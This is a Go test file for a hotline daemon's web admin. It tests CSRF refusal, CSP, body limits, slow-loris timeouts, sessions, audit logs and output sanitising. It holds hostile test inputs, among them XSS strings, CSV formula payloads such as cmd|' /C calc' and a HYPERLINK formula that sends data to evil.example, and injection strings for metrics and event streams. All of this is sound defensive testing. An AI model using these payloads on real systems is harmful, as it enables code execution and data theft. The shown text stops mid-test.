package web

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"log"
	"log/slog"
	"mime/multipart"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"hotline/daemon"
	"hotline/daemon/store"
	"hotline/voice/ivr"
	"hotline/voice/sip"
)

// lockedBuffer is a log sink that tests read while the server writes.
type lockedBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (l *lockedBuffer) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}

func (l *lockedBuffer) count(s string) int {
	l.mu.Lock()
	defer l.mu.Unlock()
	return strings.Count(l.b.String(), s)
}

// captureLog sends the server's log to a buffer the test can read.
func captureLog(f *fixture) *lockedBuffer {
	buf := &lockedBuffer{}
	f.srv.log = slog.New(slog.NewTextHandler(buf, nil))
	return buf
}

// stateChanging returns every route of the table that is not a GET.
func stateChanging(f *fixture) []route {
	var out []route
	for _, rt := range f.srv.routeTable() {
		if method, _, _ := strings.Cut(rt.pattern, " "); method != http.MethodGet {
			out = append(out, rt)
		}
	}
	return out
}

// TestCrossOriginEveryStateChange sends every state-changing route of the table (POST, PUT,
// DELETE; pages, API and public ones) from another site with the owner's valid session and
// form token, the way a hostile page in the owner's browser would. Each is refused by the
// cross-origin guard (its log line proves the guard answered, not the route), and afterwards
// nothing has changed: no audit entry, the session still works, the message is still new.
func TestCrossOriginEveryStateChange(t *testing.T) {
	sim := &fakeSim{}
	f := newOwnedFixture(t, sim)
	logs := captureLog(f)
	ctx := context.Background()
	cookie, csrf := f.login()
	_, vm := f.addCall("+79161234567", t0, tone(0.2))
	f.addSMS("+79161234567", "hello")
	auditBefore, err := f.st.ListAudit(ctx, 1000)
	if err != nil {
		t.Fatal(err)
	}
	routes := stateChanging(f)
	if len(routes) < 20 {
		t.Fatalf("only %d state-changing routes in the table", len(routes))
	}
	sites := []struct {
		name   string
		header map[string]string
	}{
		{"cross-site", map[string]string{"Sec-Fetch-Site": "cross-site", "Origin": "http://evil.example"}},
		{"same-site sibling", map[string]string{"Sec-Fetch-Site": "same-site", "Origin": "http://printer.box.lan"}},
		{"Origin only (older browser)", map[string]string{"Origin": "http://evil.example"}},
		{"null origin", map[string]string{"Origin": "null"}},
	}
	for _, rt := range routes {
		method, path := concrete(rt.pattern)
		for _, site := range sites {
			t.Run(rt.pattern+"/"+site.name, func(t *testing.T) {
				r := req{method: method, path: path, cookies: []*http.Cookie{cookie}, header: map[string]string{}, remote: "127.0.0.1:5000"}
				for k, v := range site.header {
					r.header[k] = v
				}
				if strings.HasPrefix(path, "/api/") {
					r.body = `{"from":"+79160000000","version":1,"name":"x"}`
					r.header["Content-Type"] = "application/json"
				} else {
					r.form = url.Values{"csrf": {csrf}, "username": {"owner"}, "password": {testPassword}, "handled": {"1"}}
				}
				before := logs.count("cross-origin request refused")
				w := f.do(r)
				if w.Code != http.StatusForbidden {
					t.Fatalf("status %d, want 403", w.Code)
				}
				if got := logs.count("cross-origin request refused") - before; got != 1 {
					t.Errorf("the cross-origin guard answered %d times, want once (the route ran instead?)", got)
				}
				if w.Header().Get("Content-Security-Policy") == "" {
					t.Errorf("refusal without security headers")
				}
				if sessionCookieFrom(t, w) != nil {
					t.Errorf("a refused request touched the session cookie")
				}
			})
		}
	}
	// The guard refuses only what comes from elsewhere: the same request from the admin's
	// own page goes through.
	before := logs.count("cross-origin request refused")
	w := f.do(req{method: "POST", path: fmt.Sprintf("/voicemail/%d/handled", vm), cookies: []*http.Cookie{cookie},
		form: url.Values{"csrf": {csrf}, "handled": {"1"}}, header: map[string]string{"Sec-Fetch-Site": "same-origin", "Origin": "http://example.com"}})
	if w.Code != http.StatusSeeOther || logs.count("cross-origin request refused") != before {
		t.Errorf("same-origin mark handled: %d (guard lines %d -> %d)", w.Code, before, logs.count("cross-origin request refused"))
	}
	if v, _ := f.st.Voicemail(ctx, vm); !v.Handled {
		t.Errorf("same-origin mark handled did not mark it")
	}
	// Nothing the cross-site requests asked for happened.
	auditAfter, err := f.st.ListAudit(ctx, 1000)
	if err != nil {
		t.Fatal(err)
	}
	if n := len(auditAfter) - len(auditBefore); n != 1 { // the same-origin mark above
		t.Errorf("%d audit entries after the cross-site requests, want 1 (the same-origin one): %+v", n, auditAfter[:n])
	}
	if w := f.do(req{path: "/calls", cookies: []*http.Cookie{cookie}}); w.Code != http.StatusOK {
		t.Errorf("a cross-site logout ended the session: %d", w.Code)
	}
	if len(sim.calls) != 0 {
		t.Errorf("a cross-site request placed a test call")
	}
	if _, err := f.st.CheckPassword(ctx, store.OwnerName, testPassword); err != nil {
		t.Errorf("a cross-site request changed the password: %v", err)
	}
}

// cspDirectives parses a Content-Security-Policy into directive -> sources.
func cspDirectives(csp string) map[string][]string {
	out := map[string][]string{}
	for d := range strings.SplitSeq(csp, ";") {
		fields := strings.Fields(d)
		if len(fields) > 0 {
			out[fields[0]] = fields[1:]
		}
	}
	return out
}

var (
	scriptTag     = regexp.MustCompile(`(?is)<script\b([^>]*)>(.*?)</script\s*>`)
	scriptSrc     = regexp.MustCompile(`\ssrc="(/[^/"][^"]*)"`)
	eventHandler  = regexp.MustCompile(`(?i)<[a-z][^>]*\son[a-z]+\s*=`)
	styleAttr     = regexp.MustCompile(`(?i)<[a-z][^>]*\sstyle\s*=|<style\b`)
	foreignSource = regexp.MustCompile(`(?i)\s(src|href|action|poster|formaction)\s*=\s*"(https?:)?//`)
	scriptURL     = regexp.MustCompile(`(?i)\s(src|href|action|formaction)\s*=\s*"\s*(javascript|data|vbscript):`)
)

// inlineCode lists what in an HTML page the policy would block or that loads from elsewhere.
func inlineCode(body string) []string {
	var bad []string
	for _, m := range scriptTag.FindAllStringSubmatch(body, -1) {
		if !scriptSrc.MatchString(m[1]) || strings.TrimSpace(m[2]) != "" {
			bad = append(bad, "inline script "+m[0][:min(len(m[0]), 80)])
		}
	}
	for _, re := range []*regexp.Regexp{eventHandler, styleAttr, foreignSource, scriptURL} {
		if m := re.FindString(body); m != "" {
			bad = append(bad, m[:min(len(m), 80)])
		}
	}
	return bad
}

// TestCSPEveryRoute fetches every GET route of the table (as the owner, as an operator and
// without a session, with hostile data stored) and checks that each answer carries the strict
// policy and the other headers, and that every HTML page keeps within it: scripts only as
// files from the box, no inline script, event handler or style, nothing from other hosts.
func TestCSPEveryRoute(t *testing.T) {
	d := cspDirectives(contentSecurityPolicy)
	for dir, want := range map[string]string{
		"default-src": "'self'", "script-src": "'self'", "style-src": "'self'", "img-src": "'self'",
		"media-src": "'self'", "connect-src": "'self'", "object-src": "'none'", "base-uri": "'none'",
		"form-action": "'self'", "frame-ancestors": "'none'",
	} {
		if got := strings.Join(d[dir], " "); got != want {
			t.Errorf("policy %s %q, want %q", dir, got, want)
		}
	}

	f := newOwnedFixture(t, nil)
	for i, raw := range hostileIDs {
		f.addCall(raw, t0.Add(time.Duration(i)*time.Minute), tone(0.1))
	}
	for i, text := range hostileTexts {
		f.addSMS(hostileIDs[i%len(hostileIDs)], text)
	}
	owner, _ := f.login()
	op, _ := operatorSession(t, f)
	pages := 0
	for _, rt := range f.srv.routeTable() {
		method, path := concrete(rt.pattern)
		if method != http.MethodGet {
			continue
		}
		for _, who := range []struct {
			name   string
			cookie []*http.Cookie
		}{{"owner", []*http.Cookie{owner}}, {"operator", []*http.Cookie{op}}, {"nobody", nil}} {
			w := f.do(req{path: path, cookies: who.cookie})
			h := w.Header()
			if got := h.Get("Content-Security-Policy"); got != contentSecurityPolicy {
				t.Errorf("GET %s as %s (%d): policy %q", path, who.name, w.Code, got)
			}
			for k, v := range map[string]string{"X-Content-Type-Options": "nosniff", "X-Frame-Options": "DENY",
				"Referrer-Policy": "same-origin", "Cross-Origin-Opener-Policy": "same-origin"} {
				if h.Get(k) != v {
					t.Errorf("GET %s as %s: %s = %q, want %q", path, who.name, k, h.Get(k), v)
				}
			}
			if !strings.HasPrefix(h.Get("Content-Type"), "text/html") {
				continue
			}
			pages++
			for _, bad := range inlineCode(w.Body.String()) {
				t.Errorf("GET %s as %s: %s", path, who.name, bad)
			}
		}
	}
	if pages < 30 {
		t.Errorf("only %d HTML answers checked", pages)
	}
	// The checker itself finds what it is for.
	for _, page := range []string{
		`<script>alert(1)</script>`, `<script src="/static/a.js">x()</script>`, `<script src="//evil/a.js"></script>`,
		`<a href="/" onclick="x()">`, `<p style="color:red">`, `<style>p{}</style>`, `<img src="https://evil/x.png">`,
		`<a href="javascript:alert(1)">`, `<form action="http://evil/">`,
	} {
		if len(inlineCode(page)) == 0 {
			t.Errorf("inlineCode missed %s", page)
		}
	}
	if bad := inlineCode(`<script src="/static/a.js?v=1" defer></script><p>one=1 onto</p>`); len(bad) != 0 {
		t.Errorf("inlineCode flags a clean page: %v", bad)
	}
}

// endless is a body that never ends by itself: a prefix, then filler up to cap bytes. read
// counts what the server took.
type endless struct {
	prefix string
	cap    int64
	read   atomic.Int64
}

func (e *endless) Read(p []byte) (int, error) {
	off := e.read.Load()
	if off >= e.cap {
		return 0, io.EOF
	}
	n := int(min(int64(len(p)), e.cap-off))
	for i := range n {
		if o := off + int64(i); o < int64(len(e.prefix)) {
			p[i] = e.prefix[o]
		} else {
			p[i] = 'a'
		}
	}
	e.read.Add(int64(n))
	return n, nil
}

// TestEveryBodyBounded sends every state-changing route a body that does not end (as a form,
// as JSON and, on the upload routes, as a multipart upload) with the owner's session: each
// reads no more than its limit and answers. A route that read its body unbounded would read
// the whole 40 MiB.
func TestEveryBodyBounded(t *testing.T) {
	const endlessCap = 40 << 20
	const slack = 64 << 10 // what readers buffer beyond a limit
	f := newOwnedFixture(t, &fakeSim{})
	cookie, csrf := f.login()
	f.addCall("+79161234567", t0, tone(0.2))
	limitOf := map[string]int64{
		"PUT /api/flow":      ivr.MaxFlowBytes,
		"POST /api/sim/call": maxSimBody,
	}
	for _, rt := range stateChanging(f) {
		method, path := concrete(rt.pattern)
		limit, ok := limitOf[rt.pattern]
		if !ok {
			limit = maxFormBytes
		}
		kinds := []struct{ name, contentType, prefix string }{
			{"form", "application/x-www-form-urlencoded", "csrf=" + csrf + "&x="},
			{"json", "application/json", `{"x":"`},
		}
		for _, k := range kinds {
			t.Run(rt.pattern+"/"+k.name, func(t *testing.T) {
				body := &endless{prefix: k.prefix, cap: endlessCap}
				hr := httptest.NewRequest(method, path, body)
				hr.Header.Set("Content-Type", k.contentType)
				hr.AddCookie(cookie)
				w := httptest.NewRecorder()
				f.h.ServeHTTP(w, hr)
				if n := body.read.Load(); n > limit+slack {
					t.Errorf("read %d bytes of the body, limit %d (answer %d)", n, limit, w.Code)
				}
				if w.Code < 300 && w.Code != 0 && body.read.Load() > limit {
					t.Errorf("an oversized body was accepted: %d", w.Code)
				}
			})
		}
	}
	// The upload routes take a multipart stream with their own, larger limits.
	for p, lim := range uploadRoutes {
		if lim.limit > endlessCap {
			if lim.limit > 8<<30 {
				t.Errorf("%s: upload limit %d over 8 GiB", p, lim.limit)
			}
			continue // backups and updates: too big to send here; the limit is checked above
		}
		t.Run(p+"/multipart", func(t *testing.T) {
			var head bytes.Buffer
			mw := multipart.NewWriter(&head)
			_ = mw.WriteField("csrf", csrf)
			_ = mw.WriteField("lang", "ru")
			_ = mw.WriteField("name", "greeting")
			if _, err := mw.CreateFormFile("audio", "a.wav"); err != nil {
				t.Fatal(err)
			}
			body := &endless{prefix: head.String(), cap: endlessCap}
			hr := httptest.NewRequest("POST", p, body)
			hr.Header.Set("Content-Type", mw.FormDataContentType())
			hr.AddCookie(cookie)
			w := httptest.NewRecorder()
			f.h.ServeHTTP(w, hr)
			if n := body.read.Load(); n > lim.limit+slack {
				t.Errorf("read %d bytes of the upload, limit %d (answer %d)", n, lim.limit, w.Code)
			}
			if w.Code < 300 {
				t.Errorf("an endless upload was accepted: %d", w.Code)
			}
		})
	}
}

// TestSlowClientsDoNotHoldOthers serves the admin with the production server
// ([HTTPServer], with the same throttle as the daemon) and opens several connections that send
// their request header one byte at a time (slow loris). Each is cut once ReadHeaderTimeout has
// passed, unanswered, while ordinary requests on other connections are answered throughout.
func TestSlowClientsDoNotHoldOthers(t *testing.T) {
	t.Parallel()
	f := newOwnedFixture(t, nil)
	hs := HTTPServer(Throttle(f.h, ThrottleRate, ThrottleBurst), log.New(io.Discard, "", 0))
	for name, got := range map[string][2]time.Duration{
		"ReadHeaderTimeout": {hs.ReadHeaderTimeout, ReadHeaderTimeout}, "ReadTimeout": {hs.ReadTimeout, ReadTimeout},
		"WriteTimeout": {hs.WriteTimeout, WriteTimeout}, "IdleTimeout": {hs.IdleTimeout, IdleTimeout},
	} {
		if got[0] != got[1] || got[0] <= 0 {
			t.Errorf("HTTPServer %s = %v, want %v", name, got[0], got[1])
		}
	}
	if hs.MaxHeaderBytes != MaxHeaderBytes || MaxHeaderBytes > 1<<20 {
		t.Errorf("HTTPServer MaxHeaderBytes = %d", hs.MaxHeaderBytes)
	}
	ts := httptest.NewUnstartedServer(nil)
	ts.Config = hs
	ts.Start()
	defer ts.Close()
	addr := ts.Listener.Addr().String()

	const slowClients = 8
	type cut struct {
		after time.Duration
		got   []byte
	}
	cuts := make(chan cut, slowClients)
	start := time.Now()
	var wg sync.WaitGroup
	stop := make(chan struct{})
	for i := range slowClients {
		conn, err := net.Dial("tcp", addr)
		if err != nil {
			t.Fatal(err)
		}
		defer conn.Close()
		wg.Go(func() { // reads until the server closes the connection
			b, _ := io.ReadAll(bufio.NewReader(conn))
			cuts <- cut{time.Since(start), b}
		})
		wg.Go(func() { // writes the header a byte at a time, forever
			header := fmt.Sprintf("GET /calls?slow=%d HTTP/1.1\r\nHost: box\r\n", i)
			for j := 0; ; j++ {
				if j == len(header) {
					header += fmt.Sprintf("X-Slow-%d: y\r\n", j)
				}
				if _, err := conn.Write([]byte{header[j]}); err != nil {
					return // closed by the server (or by the test)
				}
				select {
				case <-stop:
					return
				case <-time.After(100 * time.Millisecond):
				}
			}
		})
	}
	defer func() {
		close(stop)
		wg.Wait()
	}()

	// Ordinary clients, each on a new connection, are answered while the slow ones trickle.
	client := &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{DisableKeepAlives: true}}
	answered := 0
	for time.Since(start) < ReadHeaderTimeout-time.Second {
		for _, p := range []string{"/healthz", "/login", "/static/style.css"} {
			resp, err := client.Get(ts.URL + p)
			if err != nil {
				t.Fatalf("GET %s while slow clients are connected: %v", p, err)
			}
			_, _ = io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			if resp.StatusCode != http.StatusOK {
				t.Fatalf("GET %s while slow clients are connected: %d", p, resp.StatusCode)
			}
			answered++
		}
		time.Sleep(250 * time.Millisecond)
	}
	if answered < 3 {
		t.Errorf("only %d ordinary requests answered", answered)
	}

	// Every slow client is cut, after ReadHeaderTimeout and well before three times it.
	giveUp := time.After(3*ReadHeaderTimeout - time.Since(start))
	for range slowClients {
		select {
		case c := <-cuts:
			if c.after < ReadHeaderTimeout {
				t.Errorf("slow client cut after %v, before ReadHeaderTimeout %v", c.after, ReadHeaderTimeout)
			}
			if bytes.Contains(c.got, []byte("200 OK")) {
				t.Errorf("a trickled request was answered: %q", c.got)
			}
		case <-giveUp:
			t.Fatalf("a client trickling its header byte by byte was still connected after %v", 3*ReadHeaderTimeout)
		}
	}
	t.Logf("%d slow clients cut; %d ordinary requests answered meanwhile", slowClients, answered)
}

// TestLogoutEndsEverySession: logging out on one device ends the account's sessions on every
// device (a login left open elsewhere ends too), and leaves other accounts logged in.
func TestLogoutEndsEverySession(t *testing.T) {
	f := newOwnedFixture(t, nil)
	ctx := context.Background()
	laptop, csrf := f.sessionOf(store.OwnerName)
	phone, _ := f.sessionOf(store.OwnerName)
	op, _ := operatorSession(t, f)
	w := f.do(req{method: "POST", path: "/logout", cookies: []*http.Cookie{laptop}, form: url.Values{"csrf": {csrf}}})
	if w.Code != http.StatusSeeOther {
		t.Fatalf("logout: %d", w.Code)
	}
	for name, c := range map[string]*http.Cookie{"this browser": laptop, "the owner's phone": phone} {
		if w := f.do(req{path: "/calls", cookies: []*http.Cookie{c}}); w.Code != http.StatusSeeOther {
			t.Errorf("%s still logged in after logout: %d", name, w.Code)
		}
		if _, err := f.st.Session(ctx, c.Value); err == nil {
			t.Errorf("%s: the session is still in the store", name)
		}
	}
	if w := f.do(req{path: "/calls", cookies: []*http.Cookie{op}}); w.Code != http.StatusOK {
		t.Errorf("the operator's session ended with the owner's logout: %d", w.Code)
	}
	entries, _ := f.st.ListAudit(ctx, 5)
	if len(entries) == 0 || entries[0].Action != "logout" || entries[0].User != store.OwnerName {
		t.Errorf("audit after logout: %+v", entries)
	}
}

// csvFormula are cell starts a spreadsheet would run as a formula or command.
const csvFormula = "=+-@\t\r"

// TestCSVExportHostile stores calls whose caller IDs, end reasons, answering names and notes
// hold formulas, markup, control bytes, row breaks and invalid UTF-8, and reads the export
// back as CSV: one row per call with every column, every cell valid UTF-8 without control
// bytes, none starting like a formula, and the download is an attachment that a browser does
// not sniff.
func TestCSVExportHostile(t *testing.T) {
	f := newOwnedFixture(t, nil)
	ctx := context.Background()
	cookie, _ := f.login()
	formulas := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
		"@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1\r\n5,6,7\r\n=2+2",
	}
	ids := append(append([]string{}, hostileIDs...), formulas...)
	for i, raw := range ids {
		at := t0.Add(time.Duration(i) * time.Minute)
		id, err := f.st.StartCall(ctx, "gsm1", raw, at)
		if err != nil {
			t.Fatal(err)
		}
		hostile := formulas[i%len(formulas)]
		sum := store.Summary{Outcome: "completed", MenuPath: hostile, Nodes: hostile, AnsweredBy: hostile,
			EndReason: hostile + " <script>alert(1)</script>\x00\x1b[31m", Language: hostile}
		if err := f.st.FinishCallSummary(ctx, id, at.Add(time.Minute), sum); err != nil {
			t.Fatal(err)
		}
		if err := f.st.SetCallNote(ctx, id, hostileTexts[i%len(hostileTexts)]+"\n"+hostile); err != nil {
			t.Fatal(err)
		}
	}
	w := f.do(req{path: "/calls.csv", cookies: []*http.Cookie{cookie}})
	if w.Code != http.StatusOK {
		t.Fatalf("export: %d", w.Code)
	}
	h := w.Header()
	if !strings.HasPrefix(h.Get("Content-Type"), "text/csv") || !strings.HasPrefix(h.Get("Content-Disposition"), "attachment;") ||
		h.Get("X-Content-Type-Options") != "nosniff" {
		t.Errorf("export headers: %v", h)
	}
	body := strings.TrimPrefix(w.Body.String(), "\uFEFF")
	if !utf8.ValidString(body) {
		t.Errorf("the export is not valid UTF-8")
	}
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("the export does not parse as CSV: %v", err)
	}
	if len(rows) != len(ids)+1 {
		t.Errorf("%d rows, want a header and %d calls", len(rows), len(ids))
	}
	for i, row := range rows {
		if len(row) != len(csvColumns) {
			t.Errorf("row %d has %d cells, want %d", i, len(row), len(csvColumns))
		}
		for j, cell := range row {
			if cell != "" && strings.ContainsRune(csvFormula, rune(cell[0])) {
				t.Errorf("row %d cell %d starts like a formula: %q", i, j, cell)
			}
			for _, r := range cell {
				if r != '\n' && (unicode.IsControl(r) || r == '\u202e') {
					t.Errorf("row %d cell %d holds %U: %q", i, j, r, cell)
					break
				}
			}
		}
	}
	// The checks above see a formula: the store kept the text, the export defused it.
	if !strings.Contains(body, `'=HYPERLINK`) && !strings.Contains(body, `'+cmd`) && !strings.Contains(body, `"'=1+1`) {
		t.Errorf("no defused formula in the export; did the hostile text reach it?\n%s", body[:min(len(body), 2000)])
	}
}

// TestAuditWhoChangedWhat makes the owner's and an operator's typical changes through the
// admin and reads the audit log: each change is there with who made it and what it was about,
// and no password (of a user or the mail account) appears anywhere in it.
func TestAuditWhoChangedWhat(t *testing.T) {
	f := newOwnedFixture(t, nil)
	ctx := context.Background()
	owner, ownerCSRF := f.login()
	op, opCSRF := operatorSession(t, f)
	_, vm := f.addCall("+79161234567", t0, tone(0.2))
	const newOperatorPW, smtpPW = "bob's secret pass", "mail-secret-99"
	sendJSON := func(method, path, body string) {
		t.Helper()
		w := f.do(req{method: method, path: path, body: body, cookies: []*http.Cookie{owner},
			header: map[string]string{"Content-Type": "application/json"}})
		if w.Code >= 300 {
			t.Fatalf("%s %s: %d %s", method, path, w.Code, w.Body)
		}
	}
	form := func(c *http.Cookie, path string, v url.Values) {
		t.Helper()
		if w := f.do(req{method: "POST", path: path, cookies: []*http.Cookie{c}, form: v}); w.Code >= 400 {
			t.Fatalf("POST %s: %d", path, w.Code)
		}
	}
	sendJSON("PUT", "/api/settings", `{"answer_rings":"4","smtp_password":"`+smtpPW+`"}`)
	sendJSON("POST", "/api/users", `{"name":"bob","password":"`+newOperatorPW+`"}`)
	form(owner, "/users/bob/password", url.Values{"csrf": {ownerCSRF}, "password": {newOperatorPW + "2"}})
	sendJSON("DELETE", "/api/users/bob", "")
	form(owner, "/backup/download", url.Values{"csrf": {ownerCSRF}})
	form(op, fmt.Sprintf("/voicemail/%d/handled", vm), url.Values{"csrf": {opCSRF}, "handled": {"1"}})

	entries, err := f.st.ListAudit(ctx, 100)
	if err != nil {
		t.Fatal(err)
	}
	want := []struct{ user, action, detail string }{
		{store.OwnerName, "settings changed", "answer_rings"},
		{store.OwnerName, "settings changed", "smtp_password"},
		{store.OwnerName, "user added", "bob"},
		{store.OwnerName, "password reset", "bob"},
		{store.OwnerName, "user removed", "bob"},
		{store.OwnerName, "backup_downloaded", ".tar.gz"},
		{"anna", "voicemail_handled", ""},
	}
	for _, w := range want {
		found := false
		for _, e := range entries {
			if e.User == w.user && e.Action == w.action && strings.Contains(e.Detail, w.detail) && !e.At.IsZero() {
				found = true
			}
		}
		if !found {
			t.Errorf("no audit entry %q by %s about %q in %+v", w.action, w.user, w.detail, entries)
		}
	}
	for _, e := range entries {
		for _, secret := range []string{newOperatorPW, smtpPW, testPassword, "operator password"} {
			if strings.Contains(e.Detail, secret) || strings.Contains(e.Action, secret) {
				t.Errorf("audit entry %+v holds a password", e)
			}
		}
	}

	// The owner reads the same log through the API, newest first.
	var api struct {
		Entries []struct {
			At                   time.Time
			User, Action, Detail string
		} `json:"entries"`
	}
	w := f.do(req{path: "/api/audit?limit=3", cookies: []*http.Cookie{owner}})
	if err := json.Unmarshal(w.Body.Bytes(), &api); err != nil || w.Code != http.StatusOK {
		t.Fatalf("GET /api/audit: %d %v", w.Code, err)
	}
	if len(api.Entries) != 3 || api.Entries[0].User != "anna" || api.Entries[0].Action != "voicemail_handled" ||
		api.Entries[0].At.IsZero() || api.Entries[1].Action != "backup_downloaded" {
		t.Errorf("GET /api/audit?limit=3: %+v", api.Entries)
	}
	if w := f.do(req{path: "/api/audit", cookies: []*http.Cookie{op}}); w.Code != http.StatusForbidden {
		t.Errorf("operator reads the audit log: %d, want 403", w.Code)
	}

	// A flow change is recorded as a version with its author (the flow's own history).
	var cur struct {
		Flow json.RawMessage `json:"flow"`
	}
	w = f.do(req{path: "/api/flow", cookies: []*http.Cookie{owner}})
	if err := json.Unmarshal(w.Body.Bytes(), &cur); err != nil || len(cur.Flow) == 0 {
		t.Fatalf("GET /api/flow: %v %s", err, w.Body)
	}
	sendJSON("PUT", "/api/flow?comment=audit", string(cur.Flow))
	versions, err := f.st.FlowVersions(ctx, 1)
	if err != nil || len(versions) != 1 || versions[0].CreatedBy != store.OwnerName || versions[0].Comment != "audit" {
		t.Errorf("newest flow version %+v (%v), want one by the owner with the comment", versions, err)
	}
}

// hostileModemText is what a modem, a SIM, the network or a phone could report about itself.
var hostileModemText = []string{
	`<script>alert("modem")</script>`,
	"Op\"er\\ator\n# HELP injected\nfake_metric 1",
	"MTS\x00\x1b[2J\x07\r\nevent: dashboard\ndata: {\"forged\":1}\n\n",
	"\xff\xfe\xc3( bad utf-8",
	"\u202eevil\u200b<img src=x onerror=alert(1)>",
	strings.Repeat("Ж", 3000),
}

// TestHostileModemTextEveryPage puts hostile text in everything the lines and the phones
// report (modem model, firmware, IMEI, SIM, operator name, a live caller's number, the line's
// state, a SIP phone's contact and user agent) and fetches every GET route of the table, the
// metrics and the live event stream: every answer is valid UTF-8 without the markup, control
// bytes or bidi override, the metrics stay well-formed lines, and the event stream carries no
// line the text added.
func TestHostileModemTextEveryPage(t *testing.T) {
	f := newOwnedFixture(t, nil)
	var lines []daemon.LineInfo
	for i, s := range hostileModemText {
		lines = append(lines, daemon.LineInfo{
			ID: fmt.Sprintf("gsm%d", i+1), Kind: "quectel", State: s, Model: s, Firmware: s, IMEI: s, SIM: s,
			Operator: s, Registered: true, SignalBars: 3, SignalDBm: -70, InCall: true, CallNumber: s,
			CallSince: t0, Updated: t0,
		})
	}
	f.srv.lines = &fakeLines{lines: lines}
	var regs []sip.Registration
	for _, s := range hostileModemText {
		regs = append(regs, sip.Registration{User: "anna", Contact: "sip:" + s + "@192.0.2.9", Expires: t0.Add(time.Hour), UserAgent: s})
	}
	f.srv.sip = fakeSIP{addr: "192.0.2.1:5060", regs: regs}
	ctx := context.Background()
	if _, err := f.st.AddOperator(ctx, store.Operator{Name: "anna", SIPUser: "anna", SIPPassword: "phone-pass-1234", Available: true}); err != nil {
		t.Fatal(err)
	}
	cookie, _ := f.login()
	checkBody := func(where, body string) {
		t.Helper()
		if !utf8.ValidString(body) {
			t.Errorf("%s: invalid UTF-8", where)
		}
		for _, bad := range []string{"<script>alert", "<img src=x", "\x00", "\x1b", "\x07", "\u202e"} {
			if strings.Contains(body, bad) {
				t.Errorf("%s: answer contains %q", where, bad)
			}
		}
	}
	for _, rt := range f.srv.routeTable() {
		method, path := concrete(rt.pattern)
		if method != http.MethodGet || path == "/events" || path == "/testcall/ws" {
			continue
		}
		w := f.do(req{path: path, cookies: []*http.Cookie{cookie}})
		if w.Code >= 500 {
			t.Errorf("GET %s: %d", path, w.Code)
		}
		if ct := w.Header().Get("Content-Type"); strings.HasPrefix(ct, "audio/") || strings.HasPrefix(ct, "image/") {
			continue
		}
		checkBody("GET "+path, w.Body.String())
	}

	// Metrics: every line a comment or one sample; the operator's name cannot add one.
	w := f.do(req{path: "/metrics", remote: "127.0.0.1:9000"})
	if w.Code != http.StatusOK {
		t.Fatalf("/metrics: %d", w.Code)
	}
	metricLine := regexp.MustCompile(`^[a-zA-Z_:][a-zA-Z0-9_:]*(\{([a-zA-Z_][a-zA-Z0-9_]*="(\\[\\"n]|[^"\\\n])*",?)*\})? -?[0-9.eE+-]+$`)
	for _, l := range strings.Split(strings.TrimSuffix(w.Body.String(), "\n"), "\n") {
		if !strings.HasPrefix(l, "# HELP ") && !strings.HasPrefix(l, "# TYPE ") && !metricLine.MatchString(l) {
			t.Errorf("/metrics: malformed line %q", l)
		}
		if strings.HasPrefix(l, "fake_metric") || strings.HasPrefix(l, "# HELP injected") {
			t.Errorf("/metrics: injected line %q", l)
		}
	}
	checkBody("/metrics", w.Body.String())

	// The live stream: the first event, then hang up.
	ts := httptest.NewServer(f.h)
	defer ts.Close()
	evReq, err := http.NewRequestWithContext(ctx, "GET", ts.URL+"/events", nil)
	if err != nil {
		t.Fatal(err)
	}
	evReq.Header.Set("Accept", "text/event-stream")
	evReq.AddCookie(cookie)
	resp, err := ts.Client().Do(evReq)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("/events: %d", resp.StatusCode)
	}
	sc := bufio.NewScanner(resp.Body)
	sc.Buffer(make([]byte, 0, 1<<20), 4<<20)
	var stream strings.Builder
	events := 0
	for events == 0 && sc.Scan() {
		l := sc.Text()
		stream.WriteString(l + "\n")
		switch {
		case l == "", strings.HasPrefix(l, "retry: "), strings.HasPrefix(l, ": "):
		case l == "event: dashboard":
		case strings.HasPrefix(l, "data: "):
			var v map[string]any
			if err := json.Unmarshal([]byte(strings.TrimPrefix(l, "data: ")), &v); err != nil {
				t.Errorf("/events: data line is not one JSON object: %v", err)
			}
			if _, forged := v["forged"]; forged {
				t.Errorf("/events: the modem's text forged an event")
			}
			events++
		default:
			t.Errorf("/events: unexpected line %q", l[:min(len(l), 80)])
		}
	}
	if events == 0 {
		t.Fatalf("/events: no event (%v)", sc.Err())
	}
	checkBody("/events", stream.String())
}

// TestSessionCookieOverHTTPS logs in over real connections: over TLS the session cookie is
// Secure (as well as HttpOnly and SameSite=Strict); over plain HTTP to the box's LAN name it
// cannot be, and keeps the other two.
func TestSessionCookieOverHTTPS(t *testing.T) {
	f := newOwnedFixture(t, nil)
	for _, tc := range []struct {
		name   string
		server *httptest.Server
		host   string
		secure bool
	}{
		{"https", httptest.NewTLSServer(f.h), "", true},
		{"http on the LAN", httptest.NewServer(f.h), "hotline.local", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			defer tc.server.Close()
			client := tc.server.Client()
			client.CheckRedirect = func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }
			r, err := http.NewRequest("POST", tc.server.URL+"/login",
				strings.NewReader(url.Values{"username": {"owner"}, "password": {testPassword}}.Encode()))
			if err != nil {
				t.Fatal(err)
			}
			r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
			if tc.host != "" {
				r.Host = tc.host
			}
			resp, err := client.Do(r)
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			if resp.StatusCode != http.StatusSeeOther {
				t.Fatalf("login: %d", resp.StatusCode)
			}
			var c *http.Cookie
			for _, k := range resp.Cookies() {
				if k.Name == sessionCookie {
					c = k
				}
			}
